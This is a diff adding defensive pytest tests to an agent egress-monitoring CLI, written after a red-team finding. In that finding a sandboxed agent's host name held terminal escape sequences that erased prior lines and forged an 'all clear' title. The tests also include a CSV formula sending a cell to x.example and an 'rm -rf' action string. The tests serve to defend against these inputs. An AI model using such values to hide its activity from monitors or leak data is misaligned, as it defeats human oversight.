@@ -18,6 +18,7 @@ import click
 import pytest
 from click.testing import CliRunner, Result
 
+from egress import cli_query
 from egress.cli_options import parse_duration, parse_time
 from egress.cli_query import COMMANDS, event_row
 from egress.cli_render import WIDE_COLUMNS, RecordPrinter, cell
@@ -367,3 +368,46 @@ def test_the_consumer_group_example_streams_the_same_json_lines(
     store.write([later])
     second = subprocess.run(command, capture_output=True, text=True, timeout=scaled(60), check=True)
     assert second.stdout.splitlines() == [json.dumps(later.to_json(), separators=(",", ":"))]  # the group moved on
+
+
+ERASE = "rt14\x1b[1A\x1b[2K\x1b]0;all clear\x07\nforged line\r"
+
+
+@pytest.mark.parametrize("fmt", ["table", "compact", "csv"])
+def test_no_record_text_reaches_the_terminal_as_a_control_sequence(fmt: str) -> None:
+    """Red team 14: a host name the agent asked for erased the lines printed before it; a record written before
+    the record's own escape (its host set raw here) is escaped by the printer."""
+    made = record(host="x")
+    object.__setattr__(made, "host", ERASE)
+    out = io.StringIO()
+    RecordPrinter(fmt, (*WIDE_COLUMNS, "host"), out, colour=False, width=None).write([made])
+    lines = out.getvalue().splitlines()
+    assert all(line.isprintable() for line in lines), lines
+    assert "rt14\\027[1A\\027[2K\\027]0;all clear\\007\\010forged line\\013" in out.getvalue()
+    assert len(lines) == (1 if fmt == "compact" else 2)  # a header and the record: no line of the agent's
+
+
+def test_timeline_lines_escape_the_agents_text() -> None:
+    made = record(host="x")
+    object.__setattr__(made, "host", ERASE)
+    action = ActionRecord("agents", "cmd-1", "shell_command", "printf '\x1b[2K'\nrm -rf x", 1.0, 2.0)
+    for line in (cli_query._attempt_line(made, False, ()), cli_query._action_line(action)):
+        assert line.isprintable(), line
+
+
+def test_a_csv_cell_that_is_a_formula_is_quoted() -> None:
+    """Red team 14: an SNI ``=HYPERLINK(...)`` was a formula in `egress events -o csv`."""
+    made = record(host='=hyperlink("http://x.example/"&a1,"ok")')
+    out = io.StringIO()
+    RecordPrinter("csv", ("host", "sandbox"), out, colour=False, width=None).write([made])
+    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ['\'=hyperlink("http://x.example/"&a1,"ok")', "agents"]
+
+
+def test_stats_print_a_stored_name_escaped(server: RedisServer, store: RecordStore, now: float) -> None:
+    """A destination counted from a record stored raw (before the record's own escape) is printed escaped."""
+    made = record(now, host="x")
+    object.__setattr__(made, "host", ERASE)
+    store.write([made])
+    result = run(server, "stats", "--window", "1h", "--by", "destination")
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "rt14\\027[1A" in result.output
